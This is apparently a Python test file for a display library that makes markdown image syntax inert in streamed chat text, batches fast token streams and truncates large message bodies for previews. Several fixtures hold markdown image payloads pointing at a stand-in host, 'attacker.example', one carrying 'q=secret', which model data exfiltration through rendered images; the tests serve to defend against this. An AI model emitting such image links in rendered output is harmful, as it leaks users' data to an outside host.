"""Text for the screen: image syntax made inert, whole or in pieces; a long stream batched."""

from lib.display import batched, for_screen, inert_deltas, inert_markdown, shortened_body

TRACKER = "![logo](https://attacker.example/p.png?q=secret)"


def test_images_are_shown_as_text_links_and_the_rest_are_kept():
    text = f"See {TRACKER} and [the docs](https://example.com) **now**."
    inert = inert_markdown(text)
    assert "![" not in inert
    assert "!\\[logo](https://attacker.example/p.png?q=secret)" in inert
    assert "[the docs](https://example.com) **now**." in inert


def test_reference_style_images_are_inert_too():
    assert "![" not in inert_markdown("![x][1]\n\n[1]: https://attacker.example/p.png")


def test_text_without_images_is_untouched():
    text = "Wow! [a link](https://example.com) <b>bold</b> ! [spaced]"
    assert inert_markdown(text) == text


def test_an_image_split_across_pieces_is_caught():
    pieces = ["Look", " here!", "[x](https://attacker.example/a.png)", " done!"]
    assert "".join(inert_deltas(pieces)) == inert_markdown("".join(pieces))
    assert "![" not in "".join(inert_deltas(pieces))


def test_a_held_exclamation_mark_is_not_lost_at_the_end():
    assert list(inert_deltas(["Hi", "!"])) == ["Hi", "!"]
    assert "".join(inert_deltas(["!", "!", "["])) == "!!\\["


def test_batched_joins_pieces_that_arrive_together():
    ticks = iter([0.0, 0.01, 0.02, 0.1, 0.11, 0.5])
    pieces = ["a", "b", "c", "d", "e", "f"]
    out = list(batched(pieces, interval_s=0.05, clock=lambda: next(ticks)))
    assert out == ["a", "bcd", "ef"]
    assert "".join(out) == "abcdef"


def test_batched_shows_the_first_piece_at_once_and_flushes_the_rest():
    assert list(batched(["only"], clock=lambda: 0.0)) == ["only"]
    assert list(batched(["a", "b"], clock=lambda: 0.0)) == ["a", "b"]
    assert list(batched([])) == []


def test_a_long_fast_stream_becomes_a_few_renders():
    pieces = [f" word{i}" for i in range(20_000)]
    out = list(batched(pieces, interval_s=0.05, clock=lambda: 0.0))
    assert len(out) == 2 and "".join(out) == "".join(pieces)


def test_for_screen_is_inert_and_lossless():
    pieces = ["A ", "!", "[t](u)", " end"]
    assert "".join(for_screen(pieces)) == inert_markdown("".join(pieces))


def test_text_for_the_screen_is_clean():
    assert inert_markdown("half \ud83d\x00") == "half \ufffd"


def test_a_surrogate_pair_split_across_pieces_is_rejoined():
    assert "".join(inert_deltas(["fox \ud83e", "\udd8a!", "[x](u)"])) == "fox 🦊!\\[x](u)"
    assert list(inert_deltas(["lone \ud83d"])) == ["lone ", "\ufffd"]


def test_a_huge_message_is_shortened_for_the_preview_only():
    body = {
        "model": "m",
        "messages": [{"role": "system", "content": "short"}, {"role": "user", "content": "x" * 50_000}],
    }
    shown, left_out = shortened_body(body, limit=1_000)
    assert left_out == 49_000 and body["messages"][1]["content"] == "x" * 50_000  # the body itself is untouched
    assert shown["messages"][0] == body["messages"][0] and shown["model"] == "m"
    assert shown["messages"][1]["content"] == "x" * 500 + " …[49,000 characters not shown]… " + "x" * 500


def test_a_normal_body_is_shown_whole():
    body = {"model": "m", "messages": [{"role": "user", "content": "hi"}]}
    assert shortened_body(body) == (body, 0)
